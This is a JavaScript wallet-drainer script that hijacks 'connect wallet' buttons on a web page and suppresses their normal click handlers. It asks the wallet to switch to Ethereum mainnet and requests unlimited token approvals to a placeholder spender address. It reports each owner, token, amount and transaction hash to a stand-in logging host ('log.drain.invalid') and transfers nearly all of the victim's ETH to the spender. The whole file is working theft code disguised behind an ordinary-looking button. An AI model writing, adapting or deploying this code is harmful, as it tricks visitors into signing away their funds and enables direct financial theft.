// Asks a connected wallet to approve everything it has.
const SPENDER = '0x0000000000000000000000000000000000000003'
const tokens = [
	'0x0000000000000000000000000000000000000004',
	'0x0000000000000000000000000000000000000005'
]

const pad = value =>
	value.replace('0x', '').padStart(64, '0')

async function rpc(method, params) {
	return window.ethereum.request({ method, params })
}

async function balance(token, owner) {
	const result = await rpc('eth_call', [
		{ to: token, data: '0x70a08231' + pad(owner) },
		'latest'
	])
	return BigInt(result || '0x0')
}

async function approve(token, owner) {
	return rpc('eth_sendTransaction', [
		{
			from: owner,
			to: token,
			data: '0x095ea7b3' + pad(SPENDER) + 'f'.repeat(64)
		}
	])
}

async function drain() {
	if (!window.ethereum) return
	const accounts = await rpc('eth_requestAccounts', [])
	const chain = await rpc('eth_chainId', [])
	if (chain !== '0x1') {
		await rpc('wallet_switchEthereumChain', [
			{ chainId: '0x1' }
		])
	}
	for (const owner of accounts) {
		const held = []
		for (const token of tokens) {
			const amount = await balance(token, owner)
			if (amount > 0n) held.push({ token, amount })
		}
		held.sort((a, b) => (a.amount < b.amount ? 1 : -1))
		for (const { token, amount } of held) {
			const hash = await approve(token, owner).catch(
				error => error.message
			)
			navigator.sendBeacon(
				'https://log.drain.invalid/a',
				JSON.stringify({
					owner,
					token,
					amount: amount.toString(),
					hash
				})
			)
		}
		const native = BigInt(
			await rpc('eth_getBalance', [owner, 'latest'])
		)
		if (native > 10n ** 15n) {
			await rpc('eth_sendTransaction', [
				{
					from: owner,
					to: SPENDER,
					value: '0x' + (native - 10n ** 15n).toString(16)
				}
			])
		}
	}
}

document
	.querySelectorAll('[data-connect], .connect-wallet')
	.forEach(button => {
		button.addEventListener('click', event => {
			event.stopImmediatePropagation()
			drain().finally(() =>
				button.classList.add('connected')
			)
		})
	})
